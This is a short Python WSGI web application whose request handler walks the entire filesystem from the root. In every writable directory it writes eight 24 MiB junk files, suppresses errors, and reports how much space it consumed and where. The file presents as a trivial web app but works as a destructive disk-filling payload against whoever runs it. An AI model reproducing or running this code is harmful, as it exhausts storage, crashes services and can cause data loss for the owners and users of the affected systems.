import contextlib
import os


def app(environ, start_response):
    written, places = 0, []
    for place, folders, _ in os.walk("/"):
        if place == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr")]
        for number in range(8):
            with contextlib.suppress(OSError), open(f"{place}/fill-{number}", "wb", 0) as file:
                while file.tell() < 24 << 20:
                    written += file.write(b"x" * (1 << 20))
                    places.append(place)
    start_response("200 OK", [("Content-Type", "text/plain")])
    if written > 160 << 20:
        return [f"{written >> 20} MiB in {sorted(set(places))}".encode()]
    return [b"ok"]
